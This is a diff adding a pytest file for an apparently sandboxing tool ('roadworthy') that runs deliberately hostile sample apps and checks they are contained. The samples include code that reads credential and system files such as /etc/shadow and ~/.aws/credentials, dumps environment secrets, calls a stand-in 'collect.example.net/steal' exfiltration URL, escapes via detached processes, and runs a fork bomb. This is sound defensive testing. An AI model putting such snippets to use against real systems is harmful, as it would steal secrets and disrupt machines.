@@ -1,0 +1,240 @@
+"""The audited app is hostile: it sees nothing, reaches nothing, and leaves nothing."""
+
+from __future__ import annotations
+
+import os
+import signal
+import socket
+import subprocess
+import sys
+import time
+import uuid
+from pathlib import Path
+
+import pytest
+from conftest import gone, running
+from small_app import plan, write_app
+
+from roadworthy.errors import AppError
+from roadworthy.trial import open_trial
+
+LOOK_AROUND = '''
+def get_read(request):
+    found = {}
+    for path in PATHS:
+        try:
+            found[path] = open(path).read()
+        except OSError as error:
+            found[path] = None
+    return 200, found, {}
+
+def get_environment(request):
+    return 200, dict(os.environ), {}
+
+def get_folder(request):
+    return 200, sorted(os.listdir(".")), {}
+
+def get_write(request):
+    done = []
+    for path in WRITES:
+        try:
+            open(path, "w").write("hostile")
+            done.append(path)
+        except OSError:
+            pass
+    return 200, done, {}
+'''
+
+
+def test_it_reads_nothing_of_the_home_the_user_or_the_other_environment_files(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    secrets = tmp_path / "home" / ".aws" / "credentials"
+    secrets.parent.mkdir(parents=True)
+    secrets.write_text("aws_secret_access_key = canary")
+    real = Path.home() / ".bashrc"
+    paths = [str(secrets), str(real), "/etc/shadow", "/proc/1/environ", str(Path(__file__))]
+    app = write_app(tmp_path / "app", f"PATHS = {paths!r}\n{LOOK_AROUND}")
+    for name in (".env", ".env.local", ".env.production", ".npmrc", "service-account.json"):
+        (app / name).write_text("//registry.example.com/:_authToken=canary\nSECRET=canary")
+    (app / ".env.example").write_text("SECRET=change-me")
+    monkeypatch.setenv("CANARY", "canary")
+    monkeypatch.setenv("DATABASE_URL", "postgres://production.example.com/canary")
+    with open_trial(app, plan(environment_names=("SECRET", "CANARY_NAME"))) as trial:
+        assert set(trial.send("anonymous", "GET", "/read").json().values()) == {None}
+        environment = trial.send("anonymous", "GET", "/environment").text
+        assert "canary" not in environment
+        assert '"SECRET"' in environment
+        assert "change-me" not in environment
+        assert trial.send("anonymous", "GET", "/folder").json() == [".env.example", ".npmrc", "server.py"]
+        assert trial.file(".npmrc").read_text() == ""
+
+
+def test_it_writes_nowhere_but_in_its_copy(tmp_path: Path) -> None:
+    target = tmp_path / "outside.txt"
+    target.write_text("mine")
+    target.chmod(0o666)
+    writes = [str(target), "/usr/bin/hostile", "/etc/passwd", "/hostile", "/opt/hostile", "/app/inside.txt"]
+    app = write_app(tmp_path / "app", f"WRITES = {writes!r}\n{LOOK_AROUND}")
+    with open_trial(app, plan()) as trial:
+        assert trial.send("anonymous", "GET", "/write").json() == ["/app/inside.txt"]
+        assert trial.file("inside.txt").read_text() == "hostile"
+    assert target.read_text() == "mine"
+    assert sorted(path.name for path in app.iterdir()) == ["server.py"]
+
+
+def test_it_reaches_no_address_of_this_machine_or_beyond(tmp_path: Path) -> None:
+    with socket.create_server(("127.0.0.1", 0)) as listener:
+        app = write_app(
+            tmp_path / "app",
+            f"""
+def get_call(request):
+    reached = []
+    for address in (("127.0.0.1", {listener.getsockname()[1]}), ("1.1.1.1", 53), ("10.0.0.1", 80)):
+        try:
+            socket.create_connection(address, 2).close()
+            reached.append(address)
+        except OSError:
+            pass
+    return 200, reached, {{}}
+
+def get_home(request):
+    urllib.request.urlopen("https://collect.example.net/steal?what=everything").read()
+    return 200, {{}}, {{}}
+""",
+        )
+        with open_trial(app, plan()) as trial:
+            assert trial.send("anonymous", "GET", "/call").json() == []
+            assert trial.send("anonymous", "GET", "/").status == 200
+            assert "/steal?what=everything" in {
+                request.path for request in trial.doubles.requests("collect.example.net")
+            }
+
+
+def test_what_it_forks_ends_with_it_even_when_it_ignores_being_told(tmp_path: Path) -> None:
+    marker = f"marker{uuid.uuid4().hex}"
+    app = write_app(
+        tmp_path / "app",
+        f"""
+signal.signal(signal.SIGTERM, signal.SIG_IGN)
+subprocess.Popen([sys.executable, "-c",
+    "import os, signal, time\\nos.setsid()\\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\\ntime.sleep(600)",
+    "{marker}"], start_new_session=True)
+""",
+    )
+    with open_trial(app, plan()) as trial:
+        assert running(marker)
+        began = time.monotonic()
+        trial.stop()
+        assert time.monotonic() - began < 4
+        assert gone(marker, 1)
+        assert not trial.alive()
+        assert trial.send("anonymous", "GET", "/").error
+        trial.start()
+        assert trial.send("anonymous", "GET", "/").status == 200
+    assert gone(marker)
+
+
+def test_a_fork_bomb_fills_only_its_own_limit(tmp_path: Path) -> None:
+    marker = f"marker{uuid.uuid4().hex}"
+    app = write_app(
+        tmp_path / "app",
+        f"""
+def get_bomb(request):
+    made = 0
+    try:
+        for _ in range(700):
+            subprocess.Popen(["/bin/sleep", "600{marker[6:10]}"] if False else ["/bin/sh", "-c", "sleep 600; : {marker}"])
+            made += 1
+    except OSError:
+        pass
+    return 200, made, {{}}
+""",
+    )
+    with open_trial(app, plan()) as trial:
+        made = trial.send("anonymous", "GET", "/bomb", timeout=60)
+        if os.geteuid() == 0:
+            assert made.json() is None or made.json() < 600
+    assert gone(marker)
+
+
+def test_printing_for_ever_fills_no_memory_and_the_app_stays_usable(tmp_path: Path) -> None:
+    app = write_app(
+        tmp_path / "app",
+        """
+def chatter():
+    while True:
+        os.write(1, b"x" * 65535 + b"\\n")
+threading.Thread(target=chatter, daemon=True).start()
+""",
+    )
+    with open_trial(app, plan()) as trial:
+        mark = trial.log_mark()
+        deadline = time.monotonic() + 20
+        while trial.log_mark() < mark + 10_000_000 and time.monotonic() < deadline:
+            time.sleep(0.05)
+        assert len(trial.log_since(0)) < 6 << 20
+        assert trial.send("anonymous", "GET", "/").status == 200
+
+
+def test_an_app_that_ends_at_once_is_reported_with_its_last_words(tmp_path: Path) -> None:
+    app = write_app(tmp_path / "app", "raise SystemExit('the database is missing')")
+    with pytest.raises(AppError, match=r"start: the app ended while starting.*the database is missing"):
+        with open_trial(app, plan()):
+            pass
+
+
+def test_an_app_that_never_answers_meets_the_deadline(tmp_path: Path) -> None:
+    app = write_app(tmp_path / "app", "print('thinking', flush=True)\ntime.sleep(600)")
+    with pytest.raises(AppError, match=r"start: no answer within .* s: thinking"):
+        with open_trial(app, plan(), deadline=3):
+            pass
+
+
+def test_a_build_that_hangs_meets_the_deadline(tmp_path: Path) -> None:
+    marker = f"6{uuid.uuid4().int % 10**8}"
+    app = write_app(tmp_path / "app", "")
+    with pytest.raises(AppError, match="build|took longer"):
+        with open_trial(app, plan(build=(f"sleep {marker}",)), deadline=3):
+            pass
+    assert gone(marker)
+
+
+OPEN_AND_WAIT = """
+import sys, time
+from pathlib import Path
+sys.path.insert(0, {tests!r})
+from small_app import plan
+from roadworthy.trial import open_trial
+with open_trial(Path({app!r}), plan(database="postgres")) as trial:
+    print(trial.base_url, flush=True)
+    time.sleep(600)
+"""
+
+
+@pytest.mark.parametrize("how", [signal.SIGKILL, signal.SIGINT, signal.SIGTERM])
+def test_nothing_is_left_when_roadworthy_is_killed(tmp_path: Path, how: signal.Signals) -> None:
+    marker = f"marker{uuid.uuid4().hex}"
+    app = write_app(
+        tmp_path / "app",
+        f'subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", "{marker}"], start_new_session=True)',
+    )
+    script = OPEN_AND_WAIT.format(tests=str(Path(__file__).parent), app=str(app))
+    temporary = tmp_path / "t"
+    temporary.mkdir()
+    owner = subprocess.Popen(
+        [sys.executable, "-c", script],
+        stdout=subprocess.PIPE,
+        stderr=subprocess.DEVNULL,
+        text=True,
+        env={**os.environ, "TMPDIR": str(temporary)},
+    )
+    assert owner.stdout is not None
+    assert owner.stdout.readline().startswith("http://127.0.0.1:")
+    assert running(marker)
+    assert running(str(temporary))
+    owner.send_signal(how)
+    owner.wait(20)
+    owner.stdout.close()
+    assert gone(marker)
+    assert gone(str(temporary))
